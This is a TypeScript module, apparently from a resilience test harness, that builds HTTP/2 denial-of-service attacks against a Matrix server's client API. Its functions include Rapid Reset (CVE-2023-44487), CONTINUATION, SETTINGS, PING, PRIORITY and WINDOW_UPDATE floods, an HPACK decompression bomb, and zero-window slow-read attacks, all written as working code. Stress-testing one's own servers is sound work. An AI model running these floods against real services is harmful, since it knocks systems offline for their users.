import type { TLSSocket } from 'node:tls';
import { FLAG, FRAME, frame, headerBlock, headersFrame } from '../../harness/http2-frames.ts';
import { type Assault, flood, keepAt, type Line, openTls, sourceAddress } from './assault.ts';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
/** Connections at once. Each is opened anew when the sidecar has ended it. */
const LANES = 8;
const INITIAL_WINDOW = 4;

type Fields = readonly (readonly [string, string])[];
const ask = (assault: Assault, path: string, method = 'GET'): Fields => [
  [':method', method],
  [':scheme', 'https'],
  [':authority', assault.host],
  [':path', path],
];
const FLOOD = '/_matrix/client/v3/flood';
const RESET = Buffer.from([0, 0, 0, 8]);

/** An HTTP/2 connection whose preface is sent, with one setting of the client's. */
async function open(
  assault: Assault,
  lane: number,
  setting?: readonly [number, number],
): Promise<Line<TLSSocket> | undefined> {
  const line = await openTls(assault, sourceAddress(lane), { ALPNProtocols: ['h2'] });
  if (line === undefined) return undefined;
  const payload = Buffer.alloc(setting === undefined ? 0 : 6);
  if (setting !== undefined) {
    payload.writeUInt16BE(setting[0], 0);
    payload.writeUInt32BE(setting[1], 2);
  }
  line.socket.write(Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0, payload), frame(FRAME.settings, FLAG.ack, 0)]));
  line.socket.resume();
  return line;
}

/** Floods connections with what `make` gives, one batch after the other. */
function flooding(make: (assault: Assault) => (batch: number) => Buffer, what: string, size: number) {
  return (assault: Assault): Promise<void> =>
    keepAt(assault, LANES, async (lane) => {
      const line = await open(assault, lane);
      if (line === undefined) return;
      const next = make(assault);
      let batch = 0;
      await flood(assault, line, () => {
        assault.count(what, size);
        return next(batch++);
      });
      line.socket.destroy();
    });
}

const many = (count: number, one: (index: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, index) => one(index)));

/** Opens streams and takes them back (CVE-2023-44487). */
export const rapidReset = flooding(
  (assault) => (batch) =>
    many(200, (index) => {
      const stream = 2 * (batch * 200 + index) + 1;
      return Buffer.concat([headersFrame(stream, ask(assault, FLOOD)), frame(FRAME.reset, 0, stream, RESET)]);
    }),
  'streams',
  200,
);

/** A header block that never ends (CVE-2024-28182 and its kind). */
export const continuationFlood = flooding(
  (assault) => (batch) =>
    Buffer.concat([
      batch === 0 ? frame(FRAME.headers, FLAG.endStream, 1, headerBlock(ask(assault, FLOOD))) : Buffer.alloc(0),
      many(500, (index) => frame(FRAME.continuation, 0, 1, index % 2 === 0 ? '' : headerBlock([['x', 'y']]))),
    ]),
  'frames',
  500,
);

export const settingsFlood = flooding(
  () => () => many(500, (index) => frame(FRAME.settings, 0, 0, Buffer.from([0, 3, 0, 0, 0, index % 100]))),
  'frames',
  500,
);

export const pingFlood = flooding(() => () => many(500, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8))), 'frames', 500);

export const priorityFlood = flooding(
  () => (batch) =>
    many(500, (index) => frame(FRAME.priority, 0, 2 * ((batch * 500 + index) % 1_000) + 1, Buffer.alloc(5, 1))),
  'frames',
  500,
);

/** A body of DATA frames with nothing in them. */
export const emptyData = flooding(
  (assault) => (batch) =>
    Buffer.concat([
      batch === 0 ? headersFrame(1, ask(assault, FLOOD, 'POST'), false) : Buffer.alloc(0),
      many(1_000, () => frame(FRAME.data, 0, 1)),
    ]),
  'frames',
  1_000,
);

/** The window of a stream opened a byte at a time, for nothing. */
export const windowUpdateFlood = flooding(
  (assault) => (batch) =>
    Buffer.concat([
      batch === 0 ? headersFrame(1, ask(assault, FLOOD, 'POST'), false) : Buffer.alloc(0),
      many(500, () => frame(FRAME.windowUpdate, 0, 1, Buffer.from([0, 0, 0, 1]))),
    ]),
  'frames',
  500,
);

/** Few bytes that unpack to many: a long entry in the dynamic table, and references to it. */
export const hpackBomb = flooding(
  (assault) => (batch) => {
    const length = 3_900 - 127;
    const entry = Buffer.concat([
      Buffer.from([0x40, 1, 0x78, 127, (length & 127) | 128, length >> 7]),
      Buffer.alloc(3_900, 'a'),
    ]);
    return many(20, (index) => {
      const parts = [headerBlock(ask(assault, FLOOD)), batch + index === 0 ? entry : '', Buffer.alloc(100, 0x80 | 62)];
      const block = Buffer.concat(parts.map((part) => Buffer.from(part)));
      return frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, 2 * (batch * 20 + index) + 1, block);
    });
  },
  'requests',
  20,
);

/** Asks for large answers on every stream of many connections, and grants them no window. */
export async function zeroWindow(assault: Assault): Promise<void> {
  await askAndHold(assault, 0, async (line) => {
    await Promise.race([line.ended, assault.ended]);
  });
}

/** The same with windows that grow a byte at a time. */
export async function tinyWindows(assault: Assault): Promise<void> {
  const updates = many(100, (index) => frame(FRAME.windowUpdate, 0, 2 * index + 1, Buffer.from([0, 0, 0, 1])));
  await askAndHold(assault, 1, async (line) => {
    while (!line.closed() && !assault.over()) {
      line.socket.write(updates);
      assault.count('bytes granted', 100);
      await assault.pause(50);
    }
  });
}

/** The same with windows as large as can be, and a connection that is not read. */
export async function unreadAnswers(assault: Assault): Promise<void> {
  await askAndHold(assault, 2 ** 31 - 1, async (line) => {
    line.socket.write(frame(FRAME.windowUpdate, 0, 0, Buffer.from([0x7f, 0xff, 0, 0])));
    line.socket.pause();
    await Promise.race([line.ended, assault.ended]);
  });
}

/** Four connections a second, with a hundred requests each. */
async function askAndHold(
  assault: Assault,
  window: number,
  hold: (line: Line<TLSSocket>) => Promise<void>,
): Promise<void> {
  await keepAt(assault, 40, async (lane) => {
    await assault.pause(lane * 250);
    const line = await open(assault, lane, [INITIAL_WINDOW, window]);
    if (line === undefined) return;
    line.socket.write(
      many(100, (index) => headersFrame(2 * index + 1, ask(assault, `/_matrix/client/v3/big/${index}`))),
    );
    assault.count('requests', 100);
    await hold(line);
    line.socket.destroy();
  });
}
